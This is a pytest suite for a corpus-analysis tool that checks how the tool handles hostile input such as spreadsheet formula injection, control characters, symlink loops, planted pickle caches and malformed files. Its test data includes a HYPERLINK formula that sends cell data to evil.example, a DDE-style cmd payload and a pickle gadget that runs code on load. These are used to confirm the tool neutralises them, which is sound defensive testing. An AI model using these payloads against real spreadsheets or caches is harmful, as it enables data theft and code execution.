"""Hostile input and faults (issue 15): one test per case, each on small files generated in tmp_path.

Cases: formula injection into workbooks and CSVs, control characters, table rows with null/missing lang,
NaN, duplicate doc_ids, an unreadable input in the run fingerprint, a planted ingest cache, the cache key,
a truncated run-cache manifest, deeply nested HTML, a huge one-line text, UTF-16 without BOM, a PDF whose
lines repeat on every page, rich markup in names, file errors in compare/cluster/coverage, a non-UTF-8 CSV,
extract over good outputs, symbolic links and unreadable folders, paths outside an input folder, the
normaliser's idempotence, fetch (404, total timeout, checksum), absolute paths in outputs; and one
end-to-end hostile run through `ingest`, `extract` and `run_all`.

Tests run as root, where permission bits do not stop reads: an "unreadable" file is a FIFO (reading it would
block for ever, so it must be recognised without opening it) or a read that fails with PermissionError
(``monkeypatch`` on the one path, everything else real).
"""
from __future__ import annotations

import http.server
import json
import os
import pickle
import shutil
import signal
import threading
import time
from contextlib import contextmanager
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from aicompare.cli import app
from conftest import RAW, make_pdf

PAYLOAD = '=HYPERLINK("http://evil.example/?d="&C2,"Details")&" AI developers must respect …"'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
SEEDS = sorted(RAW / f for f in pd.read_csv(RAW / "SOURCES.csv")["file"])  # the five Japanese seed documents
SEED_IDS = sorted(p.stem for p in SEEDS)


# ---------------------------------------------------------------- helpers

def _workbook_formulas(path: Path) -> list[str]:
    """Cells of ``path`` that a spreadsheet would evaluate: formulas, or formula-like text without quote prefix."""
    bad = []
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    bad.append(f"{ws.title}!{cell.coordinate} formula {cell.value!r}")
                elif (isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)
                      and not cell.quotePrefix and not _plain_number(cell.value)):
                    bad.append(f"{ws.title}!{cell.coordinate} unescaped {cell.value!r}")
    return bad


def _plain_number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def _seed_folder(dst: Path) -> Path:
    """The shipped seed documents with their SOURCES.csv, copied to ``dst``."""
    dst.mkdir(parents=True, exist_ok=True)
    for p in [*SEEDS, RAW / "SOURCES.csv"]:
        shutil.copy(p, dst / p.name)
    return dst


@contextmanager
def _time_limit(seconds: int):
    """Fail (rather than hang) when the body takes longer than ``seconds``."""
    def boom(*_):
        raise TimeoutError(f"took longer than {seconds} s")

    old = signal.signal(signal.SIGALRM, boom)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)


def _ingest(paths, **kw):
    from aicompare.corpus.ingest import ingest

    return ingest(paths, use_cache=kw.pop("use_cache", False), **kw)


def _codes(res) -> set[str]:
    return set(res.issues["code"])


# ---------------------------------------------------------------- formula injection

def test_workbook_cells_are_values_never_formulas(tmp_path):
    from aicompare.io import write_table, write_tables_xlsx

    df = pd.DataFrame({"doc_id": ["@evil", "ok"], "text": [PAYLOAD, "+SUM(A1:A9)"], "n": [1, -2],
                       "signed": ["-1.5", "-cmd|' /C calc'!A0"]})
    one = write_table(df, tmp_path / "one.xlsx")
    many = write_tables_xlsx({"evidence": df, "other": df}, tmp_path / "many.xlsx")
    for book in (one, many):
        assert _workbook_formulas(book) == []
        back = pd.read_excel(book, dtype=str)
        assert back["text"].tolist() == [PAYLOAD, "+SUM(A1:A9)"]  # the text itself is kept, as a value
        assert back["doc_id"].tolist() == ["@evil", "ok"]


def test_csv_text_cells_are_neutralised_and_read_back_exactly(tmp_path):
    from aicompare.io import unescape_csv_frame, write_table

    df = pd.DataFrame({"text": [PAYLOAD, "-1.5", "'=already quoted", "\tTAB", "plain"], "n": [1, 2, 3, 4, 5]})
    path = write_table(df, tmp_path / "t.csv")
    raw = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert not [v for v in raw["text"] if v.startswith(FORMULA_STARTS) and not _plain_number(v)]
    assert raw["text"].iloc[0] == "'" + PAYLOAD
    assert unescape_csv_frame(raw)["text"].tolist() == df["text"].tolist()


def test_exported_report_workbook_has_no_formula(tmp_path):
    """export_tables_xlsx (aicompare report / the pipeline's excel stage) from CSVs holding the payload."""
    from aicompare.io import write_table
    from aicompare.report import export_tables_xlsx

    processed = tmp_path / "processed"
    ev = pd.DataFrame({"doc_id": ["d1"], "value_code": ["V13"], "text": [PAYLOAD + "\x1b[31m"]})
    write_table(ev, processed / "extract" / "evidence.csv")
    write_table(pd.DataFrame({"doc_id": ["=cmd"], "V01": [1]}), processed / "extract" / "matrix.csv")
    book, sheets = export_tables_xlsx(tmp_path / "t.xlsx", processed)
    assert sheets == ["matrix", "evidence"] and _workbook_formulas(book) == []
    wb = openpyxl.load_workbook(book)
    assert wb["evidence"]["C2"].value == PAYLOAD + "␛[31m"  # the CSV escape undone, ESC made visible
    assert wb["matrix"]["A2"].value == "=cmd" and wb["matrix"]["A2"].data_type == "s"


def test_survey_xlsx_has_no_formula_from_a_hostile_matrix(tmp_path):
    from aicompare.stages.survey import write_survey_outputs

    report = RAW / "ai_network_society_report_2022_summary_ja.txt"
    matrix = pd.DataFrame({"doc_id": [PAYLOAD, "@x"], **{f"V{i:02d}": [1, 0] for i in range(1, 23)}})
    written = write_survey_outputs(report, tmp_path / "survey", None, xlsx=True, figures=False, matrix=matrix,
                                   corpus_label="=1+1")
    book = next(p for p in written if p.suffix == ".xlsx")
    assert _workbook_formulas(book) == []


# ---------------------------------------------------------------- control characters

def test_control_characters_do_not_break_the_workbook(tmp_path):
    from aicompare.io import write_table

    df = pd.DataFrame({"text": ["ESC\x1b[2J here", "NUL\x00 and \x01 and \x7f"]})
    book = write_table(df, tmp_path / "c.xlsx")
    assert pd.read_excel(book)["text"].tolist() == ["ESC␛[2J here", "NUL␀ and ␁ and ␡"]


@pytest.mark.parametrize("suffix,body", [
    (".html", "<html><body><h1>AI\x01 Principles</h1><p>AI developers must\x01 respect privacy.</p></body></html>"),
    (".md", "# AI\x01 Principles\n\nAI developers must\x01 respect privacy.\n"),
])
def test_u0001_in_html_and_markdown_keeps_the_document(tmp_path, suffix, body):
    f = tmp_path / f"doc{suffix}"
    f.write_text(body, encoding="utf-8")
    res = _ingest([f])
    assert res.documents["doc_id"].tolist() == ["doc"], res.issues.to_dict("records")
    assert "AI developers must respect privacy." in res.passages["text"].tolist()
    assert not res.passages["text"].str.contains("\x01").any()


# ---------------------------------------------------------------- document tables

def test_jsonl_rows_with_null_or_missing_lang_cost_nothing(tmp_path):
    rows = [{"doc_id": "a", "text": "AI developers must respect privacy and fairness.", "lang": "en"},
            {"doc_id": "b", "text": "AI事業者は人間の尊厳を尊重しなければならない。", "lang": None},
            {"doc_id": "c", "text": "Transparency is required of every AI provider."}]
    t = tmp_path / "docs.jsonl"
    t.write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in rows), encoding="utf-8")
    res = _ingest([t])
    docs = res.documents.set_index("doc_id")
    assert sorted(docs.index) == ["a", "b", "c"]
    assert docs.loc["b", "lang"] == "ja" and docs.loc["c", "lang"] == "en"  # detected
    named = res.issues[res.issues["code"] == "missing_lang"]
    assert sorted(named["doc_id"]) == ["b", "c"] and not res.failed


def test_nan_never_becomes_the_string_nan(tmp_path):
    rows = [{"doc_id": "a", "text": "AI developers must respect privacy.", "title": None, "publisher": None},
            {"doc_id": "b", "text": None}]
    t = tmp_path / "docs.jsonl"
    t.write_text("\n".join(json.dumps(r) for r in rows), encoding="utf-8")
    res = _ingest([t])
    assert res.documents["doc_id"].tolist() == ["a"]
    for col in ("title", "publisher"):
        assert "nan" not in res.documents[col].tolist()
    assert "nan" not in res.passages["text"].tolist()
    bad = res.issues[res.issues["code"] == "malformed_row"]
    assert len(bad) == 1 and "row 2" in bad["message"].iloc[0] and "docs.jsonl" in bad["message"].iloc[0]


def test_duplicate_doc_ids_are_reported(tmp_path):
    t = tmp_path / "docs.csv"
    pd.DataFrame({"doc_id": ["x", "x"], "text": ["AI must respect privacy.", "AI must be transparent."]}).to_csv(t, index=False)
    res = _ingest([t])
    assert res.documents["doc_id"].tolist() == ["x", "x-2"]
    dup = res.issues[res.issues["code"] == "duplicate_doc_id"]
    assert dup["doc_id"].tolist() == ["x-2"] and "'x'" in dup["message"].iloc[0]


def test_non_utf8_csv_is_read_or_named(tmp_path):
    from aicompare.corpus.load import load_corpus

    sjis = tmp_path / "sjis.csv"
    sjis.write_bytes("doc_id,text\nj1,AI事業者は人間の尊厳を尊重する。\n".encode("cp932"))
    junk = tmp_path / "junk.csv"
    junk.write_bytes(b"doc_id,text\n" + bytes(range(128, 256)) * 40)
    corpus = load_corpus([sjis, junk])
    assert corpus.documents["doc_id"].tolist() == ["j1"]
    bad = corpus.issues[corpus.issues["severity"] == "error"]
    assert len(bad) == 1 and "junk.csv" in bad["message"].iloc[0]


# ---------------------------------------------------------------- run fingerprint and caches

def test_run_fingerprint_survives_an_unreadable_file(tmp_path, monkeypatch):
    from aicompare.pipeline import _inputs_fingerprint

    folder = _seed_folder(tmp_path / "in")
    locked = folder / "locked.txt"
    locked.write_text("AI developers must respect privacy.", encoding="utf-8")
    real = Path.read_bytes

    def read_bytes(self):
        if self == locked:
            raise PermissionError(13, "Permission denied", str(self))
        return real(self)

    monkeypatch.setattr(Path, "read_bytes", read_bytes)
    key = _inputs_fingerprint([folder])
    assert len(key) == 64


class _Planted:
    """A pickle payload: unpickling it creates ``marker``."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return (Path.touch, (self.marker,))


def test_planted_ingest_cache_runs_no_code_and_corrupt_entries_are_recomputed(tmp_path):
    from aicompare.paths import cache_dir

    folder = _seed_folder(tmp_path / "in")
    first = _ingest([folder], use_cache=True)
    entries = [p for p in (cache_dir() / "ingest").iterdir() if p.is_file()]
    assert entries
    marker = tmp_path / "PWNED"
    for p in entries:
        p.write_bytes(pickle.dumps(_Planted(marker)))
    again = _ingest([folder], use_cache=True)
    assert not marker.exists()
    pd.testing.assert_frame_equal(again.passages, first.passages)
    for p in entries:
        if p.exists():
            p.write_bytes(p.read_bytes()[:10])  # truncated
    pd.testing.assert_frame_equal(_ingest([folder], use_cache=True).passages, first.passages)


def test_cache_key_includes_the_file_type(tmp_path):
    body = "# AI Principles\n\nAI developers must respect privacy.\n"
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "same.txt").write_text(body, encoding="utf-8")
    as_txt = _ingest([tmp_path / "a"], use_cache=True)
    (tmp_path / "b").mkdir()
    (tmp_path / "b" / "same.md").write_text(body, encoding="utf-8")
    as_md = _ingest([tmp_path / "b"], use_cache=True)
    assert as_txt.documents["source_type"].tolist() == ["text"]
    assert as_md.documents["source_type"].tolist() == ["markdown"]
    assert as_md.documents["title"].tolist() == ["AI Principles"]
    (tmp_path / "c").mkdir()
    (tmp_path / "c" / "same.xyz").write_text(body, encoding="utf-8")
    unsupported = _ingest([tmp_path / "c"], use_cache=True)
    assert unsupported.documents.empty and _codes(unsupported) == {"unsupported"}


def test_truncated_run_cache_manifest_is_a_miss(tmp_path, monkeypatch):
    from aicompare import pipeline

    monkeypatch.setenv("AICOMPARE_CACHE", str(tmp_path / "cache"))
    key = "ab" * 32
    mf = pipeline._manifest_path(key)
    mf.parent.mkdir(parents=True)
    mf.write_text('{"outputs": [{"path": "x", "si', encoding="utf-8")
    assert pipeline._cached_run(key) is None
    mf.write_text('{"outputs": [{"path": 3}]}', encoding="utf-8")
    assert pipeline._cached_run(key) is None


# ---------------------------------------------------------------- readers: time, memory, encodings

def test_deeply_nested_html_takes_bounded_time(tmp_path):
    n = 100_000
    f = tmp_path / "deep.html"
    f.write_text("<html><body>" + "<div>" * n + "AI developers must respect privacy." + "</div>" * n
                 + "</body></html>", encoding="utf-8")
    t = time.perf_counter()
    with _time_limit(60):
        res = _ingest([f])
    assert res.passages["text"].tolist() == ["AI developers must respect privacy."]
    assert time.perf_counter() - t < 60


def test_huge_single_line_gives_bounded_passages(tmp_path):
    from aicompare.corpus.readers import MAX_PASSAGE_CHARS

    line = " ".join(f"privacy{i} fairness transparency accountability" for i in range(12_000))  # ~560k chars
    f = tmp_path / "one_line.txt"
    f.write_text(line, encoding="utf-8")
    res = _ingest([f])
    p = res.passages
    assert p["text"].str.len().max() <= MAX_PASSAGE_CHARS and p["text_raw"].str.len().max() <= MAX_PASSAGE_CHARS
    assert len(p) >= len(line) // MAX_PASSAGE_CHARS
    # the pieces tile the line: each raw piece is the line at its offsets, and together they cover it
    for r in p.itertuples():
        assert line[r.char_start:r.char_end] == r.text_raw
    assert "".join(p["text_raw"]).replace(" ", "") == line.replace(" ", "")


def test_huge_document_is_read_up_to_a_limit_named_in_a_warning(tmp_path, monkeypatch):
    """Time and memory per file are bounded: a document longer than ``MAX_DOCUMENT_CHARS`` is read (and so coded)
    up to the limit, with a warning naming the file; a document under the limit loses nothing. (The real limit,
    5 M characters, is lowered here so that the case stays small; ``benchmarks/huge_file.py`` times a 50 MB file.)"""
    from aicompare.corpus import ingest as ingest_module
    from aicompare.extract import code_documents

    limit = 200_000
    monkeypatch.setattr(ingest_module, "MAX_DOCUMENT_CHARS", limit)
    line = " ".join(f"privacy{i} fairness transparency accountability" for i in range(12_000))  # ~560k chars
    (tmp_path / "one_line.txt").write_text(line, encoding="utf-8")
    (tmp_path / "small.txt").write_text("AI developers must respect privacy and fairness.\n", encoding="utf-8")
    res = _ingest([tmp_path / "one_line.txt", tmp_path / "small.txt"])
    big = res.passages[res.passages["doc_id"] == "one_line"]
    assert len(big) and big["text_raw"].str.len().sum() <= limit
    assert "".join(big["text_raw"]).replace(" ", "") == line[:big["char_end"].max()].replace(" ", "")
    warned = res.issues[res.issues["code"] == "document_too_long"]
    assert len(warned) == 1 and warned["severity"].iloc[0] == "warning" and warned["doc_id"].iloc[0] == "one_line"
    assert "one_line.txt" in warned["message"].iloc[0] and f"{len(line):,}" in warned["message"].iloc[0]
    assert not res.failed
    assert res.passages.loc[res.passages["doc_id"] == "small", "text"].tolist() == [
        "AI developers must respect privacy and fairness."]
    assert int(res.documents.set_index("doc_id").loc["one_line", "n_chars"]) == len(line)  # the file's real size
    evidence, _, matrix = code_documents(res.passages, res.documents)
    assert set(matrix["doc_id"]) == {"one_line", "small"}
    assert evidence.loc[evidence["doc_id"] == "one_line", "passage_id"].isin(big["passage_id"]).all()


def test_match_span_lookups_equal_the_pairwise_checks():
    """Extraction asks whether a match overlaps a masked or excluded span (or lies in a negated one) by bisection,
    so a passage with many matches costs no quadratic work; the answers equal the pairwise checks."""
    import random

    from aicompare.extract import _Spans

    rng = random.Random(7)
    for _ in range(300):
        spans, pos = [], 0
        for _ in range(rng.randint(0, 8)):
            pos += rng.randint(0, 5)
            end = pos + rng.randint(0, 6)
            spans.append((pos, end))
            pos = end
        idx = _Spans(spans)
        for _ in range(20):
            s = rng.randint(0, pos + 3)
            e = s + rng.randint(1, 8)
            assert idx.overlaps(s, e) == any(s < be and bs < e for bs, be in spans)
            assert idx.covers(s, e) == any(bs <= s and e <= be for bs, be in spans)


def test_utf16_without_bom_is_text(tmp_path):
    text = "AI developers must respect privacy.\nAI事業者は人間の尊厳を尊重しなければならない。\n"
    for enc in ("utf-16-le", "utf-16-be"):
        f = tmp_path / f"{enc}.txt"
        f.write_bytes(text.encode(enc))
        res = _ingest([f])
        assert not res.failed, res.issues.to_dict("records")
        assert "AI developers must respect privacy." in res.passages["text"].tolist()


def test_pdf_whose_lines_repeat_on_every_page_keeps_its_text(tmp_path):
    lines = ["AI事業者は人間の尊厳を尊重しなければならない。", "Privacy must be protected."]
    pdf = make_pdf(tmp_path / "form.pdf", [lines] * 4, footer_numbers=False)
    res = _ingest([pdf])
    assert "no_text" not in _codes(res)
    assert res.documents["doc_id"].tolist() == ["form"]
    assert "Privacy must be protected." in res.passages["text"].tolist()


# ---------------------------------------------------------------- messages and commands

def test_names_are_printed_literally(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "report[final].txt").write_bytes(b"\x00\x01\x02binary" * 100)
    (folder / "ok.txt").write_text("AI developers must respect privacy.", encoding="utf-8")
    t = folder / "docs.jsonl"
    t.write_text(json.dumps({"doc_id": "[/red]", "text": None}) + "\n"
                 + json.dumps({"doc_id": "[bold]x", "text": "AI must be transparent."}), encoding="utf-8")
    r = CliRunner().invoke(app, ["ingest", str(folder), "--out", str(tmp_path / "out"), "--no-cache"])
    assert r.exit_code == 1, r.output
    assert "report[final].txt" in r.output and "[/red]" in r.output
    assert (tmp_path / "out" / "documents.parquet").is_file()
    assert sorted(pd.read_parquet(tmp_path / "out" / "documents.parquet")["doc_id"]) == ["[bold]x", "ok"]


@pytest.fixture(scope="module")
def seeds_with_bad_file(tmp_path_factory) -> Path:
    folder = _seed_folder(tmp_path_factory.mktemp("bad") / "in")
    (folder / "junk.txt").write_bytes(bytes(range(256)) * 20)
    return folder


def test_compare_reports_file_errors_and_exits_nonzero(tmp_path, seeds_with_bad_file):
    out = tmp_path / "cmp"
    r = CliRunner().invoke(app, ["compare", str(seeds_with_bad_file), "--out", str(out), "--no-figures",
                                 "--domestic", "none"])
    assert r.exit_code == 1 and "junk.txt" in r.output, r.output
    issues = pd.read_csv(out / "issues.csv")
    assert issues.loc[issues["severity"] == "error", "path"].str.endswith("junk.txt").tolist() == [True]
    assert sorted(pd.read_csv(out / "documents.csv")["doc_id"]) == SEED_IDS


def test_cluster_reports_file_errors_writes_issues_and_exits_nonzero(tmp_path, seeds_with_bad_file):
    out = tmp_path / "cl"
    r = CliRunner().invoke(app, ["cluster", str(seeds_with_bad_file), "--out", str(out), "--no-figures",
                                 "--view", "values", "--n-boot", "1", "--k", "2"])
    assert r.exit_code == 1 and "junk.txt" in r.output, r.output
    assert "junk.txt" in (out / "issues.csv").read_text(encoding="utf-8")
    assert sorted(pd.read_csv(out / "clusters_documents.csv")["doc_id"]) == SEED_IDS


def test_coverage_reports_file_errors_and_exits_nonzero(tmp_path, seeds_with_bad_file):
    out = tmp_path / "cov"
    r = CliRunner().invoke(app, ["coverage", str(seeds_with_bad_file), "--out", str(out), "--no-figures",
                                 "--domestic-counts", "none"])
    assert r.exit_code == 1 and "junk.txt" in r.output, r.output
    assert (out / "coverage_values.csv").is_file() and "junk.txt" in (out / "issues.csv").read_text(encoding="utf-8")


def test_extract_never_replaces_good_outputs_with_empty_ones(tmp_path):
    good = tmp_path / "good.txt"
    good.write_text("AI developers must respect privacy and protect personal data.", encoding="utf-8")
    matrix, evidence = tmp_path / "m.csv", tmp_path / "e.csv"
    r = CliRunner().invoke(app, ["extract", str(good), "--out", str(matrix), "--evidence", str(evidence)])
    assert r.exit_code == 0, r.output
    before = matrix.read_bytes(), evidence.read_bytes()
    bad = tmp_path / "bad.txt"
    bad.write_bytes(bytes(range(256)) * 10)
    r = CliRunner().invoke(app, ["extract", str(bad), "--out", str(matrix), "--evidence", str(evidence)])
    assert r.exit_code == 1 and "bad.txt" in r.output
    assert (matrix.read_bytes(), evidence.read_bytes()) == before


# ---------------------------------------------------------------- links, folders, outside paths

def test_link_loops_dangling_links_and_unreadable_folders_are_reported(tmp_path, monkeypatch):
    folder = _seed_folder(tmp_path / "in")
    (folder / "sub").mkdir()
    (folder / "sub" / "up").symlink_to(folder)  # loop back to the top
    (folder / "a.txt").symlink_to(folder / "b.txt")
    (folder / "b.txt").symlink_to(folder / "a.txt")  # a ↔ b
    (folder / "gone.txt").symlink_to(tmp_path / "nowhere.txt")
    locked = folder / "locked"
    locked.mkdir()
    (locked / "hidden.txt").write_text("AI must respect privacy.", encoding="utf-8")
    real = os.scandir

    def scandir(path="."):
        if Path(path) == locked:
            raise PermissionError(13, "Permission denied", str(path))
        return real(path)

    monkeypatch.setattr(os, "scandir", scandir)
    res = _ingest([folder])
    assert sorted(res.documents["doc_id"]) == SEED_IDS
    by_code = res.issues.groupby("code")["path"].apply(lambda s: sorted(Path(p).name for p in s)).to_dict()
    assert by_code["symlink_loop"] == ["a.txt", "b.txt", "up"]
    assert by_code["dangling_link"] == ["gone.txt"]
    assert by_code["unreadable_folder"] == ["locked"]


def test_paths_outside_the_input_folder_need_the_option(tmp_path):
    from aicompare.corpus.manifest import read_manifest_corpus

    outside = tmp_path / "outside"
    outside.mkdir()
    secret = outside / "secret.txt"
    secret.write_text("AI developers must respect privacy.", encoding="utf-8")
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "own.txt").write_text("AI must be transparent.", encoding="utf-8")
    (folder / "link.txt").symlink_to(secret)
    res = _ingest([folder])
    assert res.documents["doc_id"].tolist() == ["own"]
    out_issue = res.issues[res.issues["code"] == "outside_input"]
    assert len(out_issue) == 1 and str(secret) in out_issue["message"].iloc[0] and res.failed
    followed = _ingest([folder], follow_outside=True)
    assert sorted(followed.documents["doc_id"]) == ["link", "own"] and not followed.failed
    assert "secret.txt" in followed.issues.loc[followed.issues["code"] == "outside_input", "message"].iloc[0]

    other = outside / "other.txt"
    other.write_text("AI must be fair.", encoding="utf-8")
    manifest = folder / "MANIFEST.csv"
    pd.DataFrame({"file": ["own.txt", "../outside/secret.txt", str(other)],
                  "title": ["Own", "Up", "Absolute"]}).to_csv(manifest, index=False)
    corpus = read_manifest_corpus(manifest)
    assert corpus.documents["doc_id"].tolist() == ["own"]
    named = corpus.issues.loc[corpus.issues["code"] == "outside_input", "message"].tolist()
    assert len(named) == 2 and any("../outside/secret.txt" in m for m in named) and any(str(other) in m for m in named)
    followed = read_manifest_corpus(manifest, follow_outside=True)
    assert sorted(followed.documents["doc_id"]) == ["other", "own", "secret"]


# ---------------------------------------------------------------- normaliser

@settings(max_examples=400, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("aA 事業者・✧◇-–*•^{}12１２¹²,，.。\t\u3000＾｛｝①Ⅱ※ｶ")), max_size=24)
       | st.text(max_size=24))
def test_normaliser_is_idempotent(text):
    from aicompare.corpus.normalise import normalise_text

    once = normalise_text(text)
    assert normalise_text(once) == once


# ---------------------------------------------------------------- fetch

class _Handler(http.server.BaseHTTPRequestHandler):
    body = b""

    def do_GET(self):  # noqa: N802
        if self.path.startswith("/missing"):
            self.send_error(404, "Not Found")
            return
        self.send_response(200)
        self.send_header("Content-Length", str(len(self.body) * 40))
        self.end_headers()
        for _ in range(40):  # trickle: 40 chunks, 0.1 s apart
            self.wfile.write(self.body)
            self.wfile.flush()
            time.sleep(0.1)

    def log_message(self, *args):
        pass


@pytest.fixture()
def http_server():
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    th = threading.Thread(target=srv.serve_forever, daemon=True)
    th.start()
    yield f"http://127.0.0.1:{srv.server_address[1]}"
    srv.shutdown()
    srv.server_close()


def test_fetch_reports_404_as_404(tmp_path, http_server):
    from aicompare.corpus.fetch import FetchError, fetch_dataset

    with pytest.raises(FetchError) as exc:
        fetch_dataset("waie", dest_dir=tmp_path, url=f"{http_server}/missing/data_raw.parquet")
    assert "HTTP 404" in str(exc.value) and "no network access" not in str(exc.value)


def test_fetch_has_an_overall_time_limit(tmp_path, http_server):
    from aicompare.corpus.fetch import FetchError, fetch_dataset

    _Handler.body = b"x" * 1024
    t = time.perf_counter()
    with pytest.raises(FetchError, match="longer than"):
        fetch_dataset("waie", dest_dir=tmp_path, url=f"{http_server}/slow", timeout=5, total_timeout=1)
    assert time.perf_counter() - t < 3.5


def test_fetch_verifies_the_recorded_checksum(tmp_path):
    from aicompare.corpus.fetch import FetchError, external_sources, fetch_dataset

    cols = external_sources()["waie"]["expected_columns"]
    first, second = tmp_path / "first.parquet", tmp_path / "second.parquet"
    pd.DataFrame({c: ["a"] for c in cols}).to_parquet(first)
    pd.DataFrame({c: ["b"] for c in cols}).to_parquet(second)
    got = fetch_dataset("waie", dest_dir=tmp_path / "ext", url=first.as_uri())
    with pytest.raises(FetchError, match="SHA-256"):
        fetch_dataset("waie", dest_dir=tmp_path / "ext", url=second.as_uri())
    assert got.path.read_bytes() == first.read_bytes()  # the verified copy stays
    with pytest.raises(FetchError, match="SHA-256"):
        fetch_dataset("waie", dest_dir=tmp_path / "other", url=second.as_uri(), sha256=got.sha256)


# ---------------------------------------------------------------- portable outputs

def test_outputs_store_no_absolute_paths(tmp_path):
    from aicompare.corpus.ingest import write_ingested
    from aicompare.paths import project_root, raw_dir

    res = _ingest([raw_dir(), raw_dir() / "missing.txt"])  # absolute inputs, as `aicompare all` passes them
    write_ingested(res, tmp_path / "out")
    docs = pd.read_parquet(tmp_path / "out" / "documents.parquet")
    listed = [f.parent.relative_to(raw_dir()) / name for f in raw_dir().rglob("SOURCES.csv")
              for name in pd.read_csv(f)["file"]]
    assert sorted(docs["path"]) == sorted(f"data/raw/{p.as_posix()}" for p in listed)
    issues = pd.read_csv(tmp_path / "out" / "issues.csv")
    assert "data/raw/missing.txt" in issues["path"].tolist()
    assert all(p.startswith("data/raw/") for p in issues["path"])
    assert str(project_root()) not in (tmp_path / "out" / "issues.csv").read_text(encoding="utf-8")


# ---------------------------------------------------------------- end to end

@pytest.fixture(scope="module")
def hostile_folder(tmp_path_factory) -> tuple[Path, dict[str, str]]:
    """Good seed files (with SOURCES.csv) beside one file per hostile case; returns the folder and, for each
    bad file, the issue code expected for it."""
    folder = _seed_folder(tmp_path_factory.mktemp("hostile") / "corpus")
    rows = [{"doc_id": "formula", "text": PAYLOAD + " and protect privacy.", "lang": "en"},
            {"doc_id": "nolang", "text": "AI developers must respect human dignity and fairness.", "lang": None},
            {"doc_id": "ctrl", "text": "AI事業者は\x1b[31mプライバシー\x00を保護しなければならない。", "lang": "ja"},
            {"doc_id": "empty", "text": None}]
    (folder / "table.jsonl").write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in rows), encoding="utf-8")
    n = 100_000
    (folder / "deep.html").write_text("<html><body>" + "<div>" * n + "AI must be accountable." + "</div>" * n
                                      + "</body></html>", encoding="utf-8")
    os.mkfifo(folder / "unreadable.txt")  # reading would block for ever; root ignores chmod 000
    (folder / "binary.txt").write_bytes(bytes(range(256)) * 16)
    (folder / "doc[x].txt").write_bytes(b"\x00" * 100)
    expected_bad = {"unreadable.txt": "not_a_file", "binary.txt": "binary", "doc[x].txt": "binary",
                    "table.jsonl#4": "malformed_row"}  # row 4 ("empty") of the table
    return folder, expected_bad


HOSTILE_GOOD = ["formula", "nolang", "ctrl", "deep"]


def _check_errors(issues: pd.DataFrame, expected_bad: dict[str, str]) -> None:
    errors = issues[issues["severity"] == "error"]
    got = {Path(p).name: c for p, c in zip(errors["path"], errors["code"])}
    assert len(errors) == len(expected_bad), errors.to_dict("records")  # one message per bad file
    assert got == expected_bad
    for name in ("unreadable.txt", "binary.txt", "doc[x].txt"):
        assert any(name in m for m in errors["message"]), name


def test_hostile_run_ingest_and_extract(tmp_path, hostile_folder):
    folder, expected_bad = hostile_folder
    runner = CliRunner()
    with _time_limit(300):
        r = runner.invoke(app, ["ingest", str(folder), "--out", str(tmp_path / "ing"), "--no-cache"])
    assert r.exit_code == 1, r.output
    for name in ("unreadable.txt", "binary.txt", "doc[x].txt", "table.jsonl"):
        assert name in r.output
    docs = pd.read_parquet(tmp_path / "ing" / "documents.parquet")
    assert sorted(docs["doc_id"]) == sorted(SEED_IDS + HOSTILE_GOOD)
    assert not docs["lang"].isin(["nan", "None", ""]).any()
    _check_errors(pd.read_csv(tmp_path / "ing" / "issues.csv"), expected_bad)
    passages = pd.read_parquet(tmp_path / "ing" / "passages.parquet")
    assert not passages["text"].str.contains("[\x00-\x08\x0b\x0e-\x1f]", regex=True).any()

    with _time_limit(300):
        r = runner.invoke(app, ["extract", str(folder), "--out", str(tmp_path / "m.csv"),
                                "--evidence", str(tmp_path / "e.csv")])
    assert r.exit_code == 1, r.output
    matrix = pd.read_csv(tmp_path / "m.csv")
    assert sorted(matrix["doc_id"]) == sorted(SEED_IDS + HOSTILE_GOOD)
    ev = pd.read_csv(tmp_path / "e.csv", dtype=str, keep_default_na=False)
    assert not [v for c in ev.columns for v in ev[c] if v.startswith(FORMULA_STARTS) and not _plain_number(v)]


def test_hostile_run_all(tmp_path, hostile_folder):
    from aicompare.pipeline import run_all

    folder, expected_bad = hostile_folder
    out, fig = tmp_path / "processed", tmp_path / "figures"
    with _time_limit(600):
        res = run_all(_seed_folder(tmp_path / "raw"), [folder], out=out, figures=fig, use_cache=False)
    assert res.failed  # the bad files make the run fail …
    assert not [s.name for s in res.stages if s.error]  # … but no stage does
    _check_errors(res.issues, expected_bad)
    docs = pd.read_parquet(out / "documents.parquet")
    # the seeds twice (data/raw and the copy: the copy's ids get -2) and every good hostile document
    want = sorted(SEED_IDS + [f"{i}-2" for i in SEED_IDS] + HOSTILE_GOOD)
    assert sorted(docs["doc_id"]) == want
    assert sorted(pd.read_csv(out / "extract" / "matrix.csv")["doc_id"]) == want
    books = sorted(out.rglob("*.xlsx"))
    assert books and all(_workbook_formulas(b) == [] for b in books)
    wb = openpyxl.load_workbook(out / "aicompare_tables.xlsx")
    texts = [c.value for row in wb["evidence"].iter_rows() for c in row if isinstance(c.value, str)]
    assert any(t.startswith("=HYPERLINK") for t in texts)  # the payload is there, as text
